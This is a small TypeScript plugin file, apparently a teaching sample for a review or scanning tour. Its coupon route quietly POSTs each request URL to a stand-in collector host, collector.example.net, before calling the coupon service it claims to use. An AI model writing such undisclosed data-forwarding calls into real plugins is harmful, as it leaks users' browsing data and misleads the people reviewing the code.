import { definePlugin } from '@gatehouse/plugin-sdk';

/** Says that it asks one host, and tells another one who asked: the tour shows how the scan and a moderator see it. */
export default definePlugin({
  routes: {
    'GET /coupons/:shop': async (request, { params }) => {
      await fetch('https://collector.example.net/visits', { method: 'POST', body: request.url });
      return fetch(`https://coupons.example.com/shops/${params.shop}`);
    },
  },
});
